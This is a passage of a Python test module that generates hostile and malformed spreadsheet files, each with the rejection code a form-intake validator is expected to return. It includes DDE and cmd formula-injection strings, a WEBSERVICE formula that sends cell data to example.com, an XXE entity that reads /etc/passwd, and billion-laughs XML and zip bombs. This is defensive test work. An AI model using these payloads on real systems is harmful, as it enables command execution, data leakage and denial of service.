"""Hostile and odd files, each made from a good filled form by one fault, with the expected finding.

`python -m tests.hostile FOLDER` writes a campaign folder with all of them in its inbox, to look at.
"""

from __future__ import annotations

import base64
import os
import re
import struct
import sys
import tempfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import date
from io import BytesIO
from pathlib import Path

from tests.binary import as_binary
from tests.building import VERSION, cell_of, definition, filling, keyed
from toolkit.form.contents import make_form
from toolkit.run.folder import Folder
from toolkit.xlsx.drawn.form import write_intake

#: Texts that a spreadsheet, a mail reader or a terminal may take for something other than text.
PLANTED = (
    '=HYPERLINK("http://example.com/x","bấm")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+84 67 385 1234",
    "-2+3+cmd|' /C calc'!A0",
    "http://example.com/truy-cap",
    "mailto:so@example.com",
    "file:///c:/windows/win.ini",
    "internal:'_meta'!A1",
    "external:c:\\temp\\x.xlsx",
    "{=1+1}",
    "\t=1+1",
    "<r><t>đậm</t></r>",
    "<script>alert(1)</script>",
    "{file} %s ${x} {{y}}",
    "\u202eslx.exe\u202c",
    "\x1b[31mđỏ\x07",
    '=WEBSERVICE("http://example.com/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "'=1+1",
)


@dataclass(frozen=True, slots=True)
class Odd:
    """One file: its name in the inbox, its bytes, and the expected code; "" if it is to be accepted."""

    name: str
    data: bytes
    code: str = ""


@dataclass(frozen=True, slots=True)
class Spots:
    """Cells of a good form: sheet part and address of a figure, a date, three lines, the guide, a table's texts and
    numbers."""

    figures: str
    figure: str
    following: str
    day: str
    statements: str
    lines: tuple[str, ...]
    guide: str
    table: str
    names: tuple[str, ...]
    numbers: tuple[str, ...]


#: A good filled form of one agency.
Make = Callable[[str], bytes]


def rejected(make: Make, spots: Spots) -> Iterator[Odd]:
    """Files that are no workbook, or an unreadable or forbidden one. None of them counts for an agency."""
    good = make("")
    yield from not_workbooks()
    yield from _old_files()
    yield from _other_books(good)
    yield from _zips(good)
    yield from _parts(good, spots)
    yield from _cells_refused(good, spots)


# --- No workbook at all --------------------------------------------------------------------------


def not_workbooks() -> Iterator[Odd]:
    """Files of other kinds, named like workbooks."""
    yield Odd("rong.xlsx", b"", "empty-file")
    yield Odd("toan-so-0.xlsx", b"\0" * 5000, "empty-file")
    yield Odd("chi-xuong-dong.xlsx", b"\r\n\r\n  ", "empty-file")
    yield Odd("pdf.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "is-pdf")
    yield Odd("anh.xlsx", _PNG, "is-picture")
    yield Odd("anh-chup.xls", b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01", "is-picture")
    yield Odd(
        "trang-web.xls", b"<html><body><table><tr><td>A1</td><td>5</td></tr></table></body></html>", "is-web-page"
    )
    yield Odd("trang-web-bom.xls", b'\xef\xbb\xbf\r\n<!DOCTYPE html>\n<html lang="vi"></html>', "is-web-page")
    yield Odd(
        "bang-2003.xml",
        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
        "is-xml-spreadsheet",
    )
    yield Odd("csv.xlsx", "mã;2019;2020\nA1;5;7\n".encode(), "is-text")
    yield Odd("van-ban-utf16.xls", "mã\t2019\t2020\r\nA1\t5\t7\r\n".encode("utf-16"), "is-text")
    yield Odd("rtf.xls", b"{\\rtf1\\ansi\\deff0 Bao cao}", "is-rtf")
    yield Odd(
        "thu.eml",
        b"From: so@example.com\r\nTo: x@example.com\r\nSubject: bao cao\r\nMIME-Version: 1.0\r\n\r\nKinh gui\r\n",
        "is-mail",
    )
    yield Odd("nen.rar", b"Rar!\x1a\x07\x01\0" + bytes(range(64)), "is-archive")
    yield Odd("nen.7z", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(range(64)), "is-archive")
    yield Odd("nen.zip", zipped({"bao cao/SA.xlsx": b"PK", "ghi chu.txt": b"x"}), "is-archive")
    yield Odd(
        "word.xlsx",
        zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
        "word-document",
    )
    yield Odd(
        "trinh-chieu.xlsx",
        zipped({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}),
        "not-a-workbook",
    )
    yield Odd("byte-la.xlsx", bytes((i * 37 + i // 7) % 256 for i in range(6000)), "not-a-workbook")
    yield Odd("60-mb.xlsx", b"PK\x03\x04" + bytes(60 * 2**20), "too-large")


_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


# --- Old Office files ----------------------------------------------------------------------------


def _old_files() -> Iterator[Odd]:
    yield Odd(
        "mat-khau.xlsx",
        compound(
            {"EncryptionInfo": b"\x04\0\x04\0\x40\0\0\0<encryption/>", "EncryptedPackage": bytes(range(256)) * 20}
        ),
        "encrypted",
    )
    yield Odd("mat-khau.xls", compound({"Workbook": _biff(b"\x2f\0\x06\0\0\0" + bytes(4))}), "encrypted")
    yield Odd(
        "mat-khau-rc4.xls", compound({"Workbook": _biff(b"\x2f\0\x36\0\x01\0\x01\0\x01\0" + bytes(48))}), "encrypted"
    )
    yield Odd(
        "word-cu.xls",
        compound({"WordDocument": b"\xec\xa5\xc1\0" + "xem Workbook va Book".encode("utf-16-le")}),
        "is-old-word",
    )
    yield Odd("thu-outlook.msg", compound({"__substg1.0_0037001F": "báo cáo".encode("utf-16-le")}), "is-mail")
    yield Odd("ole-la.xls", compound({"PowerPoint Document": bytes(100)}), "not-a-workbook")
    yield Odd("xls-cut.xls", compound({"Workbook": _biff(b"")})[:700], "damaged|not-a-workbook")
    yield Odd("xls-vong.xls", _looping(compound({"Workbook": _biff(b"")})), "damaged|reader-died|took-too-long")


def _biff(second: bytes) -> bytes:
    """A BIFF8 stream: its first record, then the one given, then the end."""
    first = struct.pack("<HHHHHHII", 0x809, 16, 0x600, 5, 0x2000, 0x7CD, 0x41, 6)
    return first + second + struct.pack("<HH", 0x0A, 0)


def compound(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file with these streams under its root, each in sectors of 512 bytes."""
    fat: list[int] = [0xFFFFFFFD]
    body: list[bytes] = []

    def chain(content: bytes) -> int:
        first, count = len(fat), max(1, -(-len(content) // 512))
        fat.extend([*range(first + 1, first + count), 0xFFFFFFFE])
        body.append(content.ljust(count * 512, b"\0"))
        return first

    # Streams under 4,096 bytes would be in the small ones' sectors: these are padded instead.
    placed = [(name, chain(content.ljust(4096, b"\0")), max(len(content), 4096)) for name, content in streams.items()]
    entries = [_entry("Root Entry", 5, child=1 if streams else 0xFFFFFFFF, start=0xFFFFFFFE, size=0)]
    for number, (name, start, size) in enumerate(placed, start=1):
        right = number + 1 if number < len(placed) else 0xFFFFFFFF
        entries.append(_entry(name, 2, right=right, start=start, size=size))
    entries += [bytes(128)] * (-len(entries) % 4)
    directory = chain(b"".join(entries))
    table = b"".join(struct.pack("<I", n) for n in fat).ljust(512, b"\xff")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack(
            "<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, directory, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0
        )
    )
    header += struct.pack("<I", 0) + b"\xff" * (512 - len(header) - 4)
    return header + table + b"".join(body)


def _entry(name: str, kind: int, *, start: int, size: int, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF) -> bytes:
    written = name.encode("utf-16-le") + b"\0\0"
    return (
        written.ljust(64, b"\0")
        + struct.pack("<HBBIII", len(written), kind, 1, 0xFFFFFFFF, right, child)
        + bytes(36)
        + struct.pack("<IQ", start, size)
    )


def _looping(data: bytes) -> bytes:
    """The stream's chain of sectors returns to its start."""
    changed = bytearray(data)
    struct.pack_into("<I", changed, 512 + 4 * 8, 1)
    return bytes(changed)


def old_record(kind: int, content: bytes) -> bytes:
    return struct.pack("<HH", kind, len(content)) + content


def old_book(cells: bytes, before: bytes = b"") -> bytes:
    """An .xls with one sheet, `A`, that holds these records; `before`: records of the whole workbook."""
    head = old_record(0x809, struct.pack("<HHHHII", 0x600, 0x10, 0x2000, 0x7CD, 0x41, 6))
    named = _biff(old_record(0x85, bytes(4) + b"\0\0\x01\0A") + before)
    place = named.index(struct.pack("<HH", 0x85, 9)) + 4
    named = named[:place] + struct.pack("<I", len(named)) + named[place + 4 :]
    return compound({"Workbook": named + head + cells + old_record(0x0A, b"")})


def old_number(row: int, column: int, number: float = 5.0) -> bytes:
    return old_record(0x203, struct.pack("<HHHd", row, column, 0, number))


# --- OpenDocument and binary workbooks -----------------------------------------------------------

_ODS_HEAD = """<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" office:version="1.2">"""  # noqa: E501


def open_document(rows: str, before: str = "") -> bytes:
    """An .ods with one sheet, `S`, that holds these rows; `before`: declarations before its first element."""
    head = _ODS_HEAD.replace("?>\n", f"?>\n{before}")
    content = (
        f"{head}<office:body><office:spreadsheet><table:table "
        f'table:name="S">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
    )
    manifest = """<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">
<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>"""  # noqa: E501
    return zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": content.encode(),
            "META-INF/manifest.xml": manifest.encode(),
        }
    )


def ods_row(*cells: str, repeated: int = 1) -> str:
    return f'<table:table-row table:number-rows-repeated="{repeated}">{"".join(cells)}</table:table-row>'


def ods_cell(inside: str = "<text:p>5</text:p>", attributes: str = 'office:value-type="float" office:value="5"') -> str:
    return f"<table:table-cell {attributes}>{inside}</table:table-cell>"


def _other_books(good: bytes) -> Iterator[Odd]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE x [<!ENTITY a0 "ha">{laughs}]>'
    yield Odd("ods-bomb.ods", open_document(ods_row(ods_cell("<text:p>&a9;</text:p>")), bomb), "suspicious-file")
    wide = 'table:number-columns-repeated="16384" office:value-type="float" office:value="5"'
    yield Odd("ods-lap-o.ods", open_document(ods_row(ods_cell(attributes=wide), repeated=1048576)), "stray-cell")
    yield Odd("ods-lap-hang.ods", open_document(ods_row(ods_cell(), repeated=10**18)), "stray-cell")
    yield Odd("ods-lap-am.ods", open_document(ods_row(ods_cell(), repeated=-5)), "damaged")
    yield Odd(
        "ods-cut.ods", with_parts(open_document(ods_row(ods_cell())), {"content.xml": _ODS_HEAD.encode()}), "damaged"
    )
    yield Odd("ods-khong-kieu.ods", open_document(ods_row(ods_cell(attributes=""))), "not-read-whole")
    long = ods_cell(f"<text:p>{'y' * 40000}</text:p>", 'office:value-type="string"')
    yield Odd("ods-chu-40000.ods", open_document(ods_row(long)), "text-too-long")
    yield Odd("ods-la.ods", open_document(ods_row(ods_cell())), "not-our-form")
    yield Odd("xls-o-lac.xls", old_book(old_number(65535, 255)), "stray-cell")
    yield Odd("xls-hai-lan.xls", old_book(old_number(1, 1) * 2), "not-read-whole")
    yield Odd("xls-la.xls", old_book(old_number(1, 1)), "not-our-form")
    binary = _binary(good)
    sheet = next(name for name in parts_of(binary) if name.startswith("xl/worksheets/"))
    yield Odd("xlsb-cut.xlsb", binary[: len(binary) // 2], "damaged")
    yield Odd("xlsb-trang-cut.xlsb", with_parts(binary, {sheet: part(binary, sheet)[:-7]}), "damaged")
    yield Odd("xlsb-twice.xlsb", added(binary, {"xl/workbook.bin": part(binary, "xl/workbook.bin")}), "suspicious-file")


def _binary(data: bytes) -> bytes:
    """The workbook as an .xlsb."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "good.xlsx"
        path.write_bytes(data)
        return as_binary(path)


# --- Zips ----------------------------------------------------------------------------------------


def _zips(good: bytes) -> Iterator[Odd]:
    yield Odd("zip-cut.xlsx", good[: len(good) * 2 // 3], "damaged")
    yield Odd("zip-head-only.xlsx", good[:200], "damaged")
    flipped = bytearray(good)
    with zipfile.ZipFile(BytesIO(good)) as book:
        spot = book.getinfo("xl/worksheets/sheet3.xml")
    flipped[spot.header_offset + 30 + len(spot.filename) + spot.compress_size // 2] ^= 0xFF
    yield Odd("zip-bit.xlsx", bytes(flipped), "damaged")
    yield Odd("zip-bomb.xlsx", added(good, {"xl/media/a.xml": b"<a>" + bytes(120 * 2**20)}), "suspicious-file")
    yield Odd("zip-lying-size.xlsx", _lying(added(good, {"xl/b.xml": bytes(30 * 2**20)})), "suspicious-file|damaged")
    yield Odd("zip-many.xlsx", added(good, {f"xl/x/{n}.xml": b"" for n in range(2100)}), "suspicious-file")
    yield Odd("zip-twice.xlsx", added(good, {"xl/workbook.xml": part(good, "xl/workbook.xml")}), "suspicious-file")
    yield Odd("zip-twice-case.xlsx", added(good, {"XL/Workbook.xml": b"<workbook/>"}), "suspicious-file")
    yield Odd("zip-password.xlsx", _flagged(good), "encrypted")
    yield Odd("zip-overlap.xlsx", _overlapping(good), "damaged")
    yield Odd("zip-in-front.xlsx", b"MZ" + bytes(500) + good, "not-a-workbook")
    yield Odd("ods-password.ods", _encrypted_ods(), "encrypted")


def zipped(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def part(data: bytes, name: str) -> bytes:
    return parts_of(data)[name]


def with_parts(data: bytes, parts: dict[str, bytes | None]) -> bytes:
    """The workbook with parts replaced or added; None removes one."""
    content = {**parts_of(data), **parts}
    return zipped({name: text for name, text in content.items() if text is not None})


def entry(name: str) -> zipfile.ZipInfo:
    """A zip's entry with exactly this name: on Windows `zipfile` itself makes forward slashes of others."""
    info = zipfile.ZipInfo(name)
    info.filename = name.partition("\0")[0]  # as it leaves a name unchanged
    return info


def added(data: bytes, parts: dict[str, bytes]) -> bytes:
    """The same zip with entries after its others, whatever their names."""
    out = BytesIO(data)
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # a duplicate name is intended
        for name, content in parts.items():
            archive.writestr(entry(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _directory(data: bytes) -> list[int]:
    """Where the entries of the zip's directory begin."""
    return [m.start() for m in re.finditer(rb"PK\x01\x02", data)]


def _flagged(data: bytes) -> bytes:
    """Every entry marked as encrypted."""
    changed = bytearray(data)
    for place in _directory(data):
        changed[place + 8] |= 1
        changed[struct.unpack_from("<I", data, place + 42)[0] + 6] |= 1
    return bytes(changed)


def _lying(data: bytes) -> bytes:
    """The directory states that the last entry is ten bytes long."""
    changed = bytearray(data)
    place = _directory(data)[-1]
    struct.pack_into("<I", changed, place + 24, 10)
    struct.pack_into("<I", changed, struct.unpack_from("<I", data, place + 42)[0] + 22, 10)
    return bytes(changed)


def _overlapping(data: bytes) -> bytes:
    """Two entries of the directory with the same bytes."""
    changed = bytearray(data)
    first, second = _directory(data)[:2]
    changed[second + 42 : second + 46] = changed[first + 42 : first + 46]
    return bytes(changed)


def _encrypted_ods() -> bytes:
    manifest = b"""<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="999">
<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/></manifest:file-entry>
</manifest:manifest>"""
    noise = bytes((i * 89 + i // 3) % 251 for i in range(3000))
    return zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": noise,
            "META-INF/manifest.xml": manifest,
        }
    )


# --- Parts of the workbook -----------------------------------------------------------------------

_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def changed(data: bytes, name: str, do: Callable[[str], str]) -> bytes:
    """The workbook with one part's text changed. Raises ValueError if nothing changes."""
    before = part(data, name).decode()
    after = do(before)
    if after == before:
        raise ValueError(f"nothing to change in {name}")
    return with_parts(data, {name: after.encode()})


def _declared(text: str, declaration: str, use: str = "") -> str:
    """The part with a document type, and `use` in place of the first stored value."""
    text = text.replace("?>\n", f"?>\n{declaration}", 1)
    return re.sub(r"<v>[^<]*</v>", f"<v>{use}</v>", text, count=1) if use else text


def _parts(good: bytes, spots: Spots) -> Iterator[Odd]:
    sheet = spots.figures
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE x [<!ENTITY a0 "ha">{laughs}]>'
    yield Odd("xml-bomb.xlsx", changed(good, sheet, lambda t: _declared(t, bomb, "&a9;")), "suspicious-file")
    square = f'<!DOCTYPE x [<!ENTITY a "{"a" * 60000}">]>'
    yield Odd(
        "xml-bomb-square.xlsx", changed(good, sheet, lambda t: _declared(t, square, "&a;" * 3000)), "suspicious-file"
    )
    outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    yield Odd("xml-outside.xlsx", changed(good, sheet, lambda t: _declared(t, outside, "&a;")), "suspicious-file")
    far = f"<!--{'x' * 9000}-->{bomb}"
    yield Odd("xml-bomb-far-down.xlsx", changed(good, sheet, lambda t: _declared(t, far, "&a9;")), "suspicious-file")
    utf16 = changed(good, sheet, lambda t: _declared(t, bomb, "&a9;"))
    yield Odd("xml-bomb-utf16.xlsx", with_parts(utf16, {sheet: _as_utf16(part(utf16, sheet))}), "suspicious-file")
    yield Odd(
        "xml-bomb-strings.xlsx", changed(good, "xl/sharedStrings.xml", lambda t: _declared(t, bomb)), "suspicious-file"
    )
    yield Odd(
        "sheet-html.xlsx",
        with_parts(good, {sheet: b"<html><body><p>404 Not Found</p></body></html>"}),
        "damaged|not-read-whole",
    )
    yield Odd("sheet-case.xlsx", changed(good, sheet, lambda t: t.replace("sheetData", "sheetdata")), "damaged")
    yield Odd("sheet-cut.xlsx", with_parts(good, {sheet: part(good, sheet)[:2500]}), "damaged")
    yield Odd("sheet-cut-at-row.xlsx", with_parts(good, {sheet: part(good, sheet).split(b'<row r="10"')[0]}), "damaged")
    yield Odd("sheet-gone.xlsx", with_parts(good, {sheet: None}), "damaged")
    yield Odd("sheet-no-xml.xlsx", with_parts(good, {sheet: b"\x89PNG\r\n"}), "damaged|not-read-whole")
    yield Odd("book-gone.xlsx", with_parts(good, {"xl/workbook.xml": None}), "damaged")
    yield Odd("book-cut.xlsx", with_parts(good, {"xl/workbook.xml": part(good, "xl/workbook.xml")[:700]}), "damaged")
    yield Odd("relations-gone.xlsx", with_parts(good, {"xl/_rels/workbook.xml.rels": None}), "damaged")
    yield Odd("strings-gone.xlsx", with_parts(good, {"xl/sharedStrings.xml": None}), "damaged|not-read-whole")
    yield Odd(
        "strings-cut.xlsx",
        with_parts(good, {"xl/sharedStrings.xml": part(good, "xl/sharedStrings.xml")[:900]}),
        "damaged|not-read-whole|reader-died",
    )


def _as_utf16(xml: bytes) -> bytes:
    return xml.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


# --- Cells ---------------------------------------------------------------------------------------


def put(data: bytes, sheet: str, address: str, cell: str) -> bytes:
    """The workbook with `cell` (XML; `{style}` is replaced by the cell's style) in place of the one at `address`."""

    def do(text: str) -> str:
        old = re.search(rf'<c r="{address}"( s="\d+")?[^>]*?(?:/>|>.*?</c>)', text)
        if old is None:
            raise ValueError(f"no cell {address}")
        return text.replace(old[0], cell.replace("{style}", old[1] or ""), 1)

    return changed(data, sheet, do)


def with_rows(data: bytes, sheet: str, rows: str) -> bytes:
    """The sheet with rows (XML) after its others."""
    return changed(data, sheet, lambda text: text.replace("</sheetData>", f"{rows}</sheetData>"))


def inline(address: str, text: str) -> str:
    shown = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{address}"{{style}} t="inlineStr"><is><t xml:space="preserve">{shown}</t></is></c>'


def _cells_refused(good: bytes, spots: Spots) -> Iterator[Odd]:
    sheet, cell = spots.figures, spots.figure
    far = '<row r="{0}"><c r="{1}{0}"><v>1</v></c></row>'
    yield Odd("stray-last-cell.xlsx", with_rows(good, sheet, far.format(1048576, "XFD")), "stray-cell")
    yield Odd("stray-column.xlsx", with_rows(good, sheet, far.format(50000, "XFD")), "stray-cell")
    yield Odd("stray-outside.xlsx", with_rows(good, sheet, far.format(1048577, "XFE")), "stray-cell")
    yield Odd("stray-prefixed.xlsx", _prefixed(with_rows(good, sheet, far.format(1048576, "XFD")), sheet), "stray-cell")
    index = len(re.findall("<si>", part(good, "xl/sharedStrings.xml").decode()))
    for name, count, code in (
        ("amplified-1m.xlsx", 1_000_000, "reader-died|took-too-long"),
        ("amplified-6k.xlsx", 6_000, "too-large"),
    ):
        shared = changed(
            good, "xl/sharedStrings.xml", lambda t: t.replace("</sst>", f"<si><t>{'x' * 32767}</t></si></sst>")
        )
        rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>{index}</v></c></row>' for n in range(200, 200 + count))
        yield Odd(name, with_rows(shared, spots.guide, rows.replace('r="A', 'r="C')), code)
    rows = "".join(
        f'<row r="{n}">' + "".join(f'<c r="{c}{n}"><v>{n}</v></c>' for c in "CDEF") + "</row>"
        for n in range(200, 60_200)
    )
    yield Odd("many-cells.xlsx", with_rows(good, spots.guide, rows), "too-many-cells")
    yield Odd("dia-chi-sai.xlsx", put(good, sheet, cell, '<c r="9E"{style}><v>2</v></c>'), "damaged")
    yield Odd(
        "chu-40000.xlsx",
        put(good, spots.statements, spots.lines[0], inline(spots.lines[0], "y" * 40000)),
        "text-too-long",
    )
    line = spots.lines[0]
    yield Odd(
        "chu-40000-cong-thuc.xlsx",
        put(good, spots.statements, line, f'<c r="{line}"{{style}} t="str"><f>"y"</f><v>{"y" * 40000}</v></c>'),
        "text-too-long",
    )
    runs = f"<r><t>{'y' * 9000}</t></r>" * 4
    yield Odd(
        "chu-36000-nhieu-doan.xlsx",
        put(good, spots.statements, line, f'<c r="{line}"{{style}} t="inlineStr"><is>{runs}</is></c>'),
        "text-too-long",
    )
    yield Odd(
        "chu-32768-utf16.xlsx",
        put(good, spots.statements, spots.lines[0], inline(spots.lines[0], "\U0001f600" * 16384)),
        "text-too-long",
    )


def _prefixed(data: bytes, sheet: str) -> bytes:
    """The sheet's elements with a prefix, as some programs write them."""

    def do(text: str) -> str:
        text = re.sub(r"<(/?)(?=[a-zA-Z])", r"<\1x:", text)
        return text.replace("<x:worksheet xmlns=", "<x:worksheet xmlns:x=")

    return changed(data, sheet, do)


# --- Odd, and readable all the same ----------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Accepted:
    """One odd form that counts for its agency, with the codes that its cells give (beside those of a good form).
    `figure`: the value read from the changed cell; None if it is held or another cell is changed. `day`: the same for a
    cell with a day."""

    name: str
    change: Callable[[bytes, Spots], bytes]
    codes: tuple[str, ...] = ()
    figure: float | None = 5.0
    day: date | None = date(2020, 3, 7)


def _figure(xml: str) -> Callable[[bytes, Spots], bytes]:
    """The form with this cell (XML) in place of the figure's, whose address replaces `@`, and with dollars `$@`."""
    return lambda data, spots: put(
        data,
        spots.figures,
        spots.figure,
        xml.replace("$@", re.sub("([A-Z]+)", r"$\1$", spots.figure)).replace("@", spots.figure),
    )


def _line(*texts: str) -> Callable[[bytes, Spots], bytes]:
    """The form with these texts in its lines."""

    def do(data: bytes, spots: Spots) -> bytes:
        for address, text in zip(spots.lines, texts, strict=False):
            data = put(data, spots.statements, address, inline(address, text))
        return data

    return do


def _named(*texts: str) -> Callable[[bytes, Spots], bytes]:
    """The form with these texts in the rows of its table."""

    def do(data: bytes, spots: Spots) -> bytes:
        for address, text in zip(spots.names, texts, strict=False):
            data = put(data, spots.table, address, inline(address, text))
        return data

    return do


def _counted(xml: str) -> Callable[[bytes, Spots], bytes]:
    """The form with this cell (XML) in place of the first number of its table, whose address replaces `@`."""
    return lambda data, spots: put(data, spots.table, spots.numbers[0], xml.replace("@", spots.numbers[0]))


def _sheet(do: Callable[[str], str]) -> Callable[[bytes, Spots], bytes]:
    return lambda data, spots: changed(data, spots.figures, do)


ACCEPTED: tuple[Accepted, ...] = (
    *(
        Accepted(f"loi-{n}.xlsx", _figure(f'<c r="@"{{style}} t="e"><v>{e}</v></c>'), ("error-value",), None)
        for n, e in enumerate(
            (
                "#DIV/0!",
                "#N/A",
                "#NAME?",
                "#NULL!",
                "#NUM!",
                "#REF!",
                "#VALUE!",
                "#GETTING_DATA",
                "#SPILL!",
                "#CALC!",
                "Err:502",
            )
        )
    ),
    Accepted(
        "loi-cong-thuc.xlsx", _figure('<c r="@"{style} t="e"><f>1/0</f><v>#DIV/0!</v></c>'), ("error-value",), None
    ),
    Accepted("cong-thuc-chua-tinh.xlsx", _figure('<c r="@"{style}><f>2+3</f></c>'), ("formula-without-value",), None),
    Accepted(
        "cong-thuc-chua-tinh-v.xlsx", _figure('<c r="@"{style}><f>2+3</f><v></v></c>'), ("formula-without-value",), None
    ),
    Accepted("cong-thuc.xlsx", _figure('<c r="@"{style}><f>2+3</f><v>5</v></c>')),
    Accepted("cong-thuc-ngoai.xlsx", _figure('<c r="@"{style}><f>[1]Sheet1!$A$1</f><v>5</v></c>')),
    Accepted(
        "cong-thuc-chung.xlsx",
        lambda data, spots: put(
            put(
                data,
                spots.figures,
                spots.following,
                f'<c r="{spots.following}"{{style}}><f t="shared" si="0"/><v>7</v></c>',
            ),
            spots.figures,
            spots.figure,
            f'<c r="{spots.figure}"{{style}}><f t="shared" ref="{spots.figure}:{spots.following}" '
            'si="0">2+3</f><v>5</v></c>',
        ),
    ),
    Accepted("so-mu.xlsx", _figure('<c r="@"{style}><v>5.0E0</v></c>')),
    Accepted("so-am.xlsx", _figure('<c r="@"{style}><v>-5</v></c>'), ("negative-number",), None),
    Accepted(
        "am \x1b[31m\u202excod.xlsx" if os.name == "posix" else "am 2.xlsx",
        _figure('<c r="@"{style}><v>-5</v></c>'),
        ("negative-number",),
        None,
    ),
    Accepted("so-qua-lon.xlsx", _figure('<c r="@"{style}><v>1E+200</v></c>'), ("number-too-large",), None),
    Accepted("so-phay.xlsx", _figure('<c r="@"{style}><v>1,5</v></c>'), ("not-whole",), None),
    Accepted("so-nan.xlsx", _figure('<c r="@"{style}><v>NaN</v></c>'), ("not-a-number",), None),
    Accepted("so-inf.xlsx", _figure('<c r="@"{style}><v>INF</v></c>'), ("not-a-number",), None),
    Accepted("dung-sai.xlsx", _figure('<c r="@"{style} t="b"><v>1</v></c>'), ("not-a-number",), None),
    Accepted("ngay-iso.xlsx", _figure('<c r="@"{style} t="d"><v>2020-03-07</v></c>'), ("date-in-number",), None),
    Accepted("chu-trong-o.xlsx", _figure('<c r="@"{style} t="str"><v>5</v></c>')),
    Accepted(
        "chu-nhieu-kieu.xlsx",
        _figure(
            '<c r="@"{style} t="inlineStr"><is><r><rPr><b/></rPr><t>5</t></r><rPh sb="0" '
            'eb="1"><t>nam</t></rPh></is></c>'
        ),
    ),
    Accepted(
        "chu-trong-dau-cach.xlsx",
        _figure('<c r="@"{style} t="inlineStr"><is><t xml:space="preserve"> &#10;_x000D_</t></is></c>'),
        (),
        None,
    ),
    Accepted("dia-chi-dola.xlsx", _figure('<c r="$@"{style}><v>5</v></c>')),
    Accepted("kieu-cuc-lon.xlsx", _figure('<c r="@" s="99999"><v>5</v></c>')),
    Accepted(
        "ngay-am.xlsx",
        lambda data, spots: put(data, spots.figures, spots.day, f'<c r="{spots.day}"{{style}}><v>-5</v></c>'),
        ("not-a-date",),
        day=None,
    ),
    Accepted(
        "ngay-qua-lon.xlsx",
        lambda data, spots: put(data, spots.figures, spots.day, f'<c r="{spots.day}"{{style}}><v>99999999999</v></c>'),
        ("not-a-date",),
        day=None,
    ),
    Accepted("gio-qua-lon.xlsx", lambda data, spots: _hours(data, spots), (), 1e10),
    Accepted(
        "ngay-1904.xlsx",
        lambda data, spots: put(
            changed(data, "xl/workbook.xml", lambda t: t.replace("<workbookPr ", '<workbookPr date1904="1" ')),
            spots.figures,
            spots.day,
            f'<c r="{spots.day}"{{style}}><v>42435</v></c>',
        ),
    ),
    Accepted("cong-thuc-va-lien-ket.xlsx", _line(*PLANTED)),
    Accepted(
        "lien-ket-trong-o-so.xlsx",
        lambda data, spots: put(
            _line(*PLANTED)(data, spots), spots.figures, spots.figure, inline(spots.figure, PLANTED[0])
        ),
        ("not-a-number",),
        None,
    ),
    Accepted("cong-thuc-trong-bang.xlsx", _named(*PLANTED)),
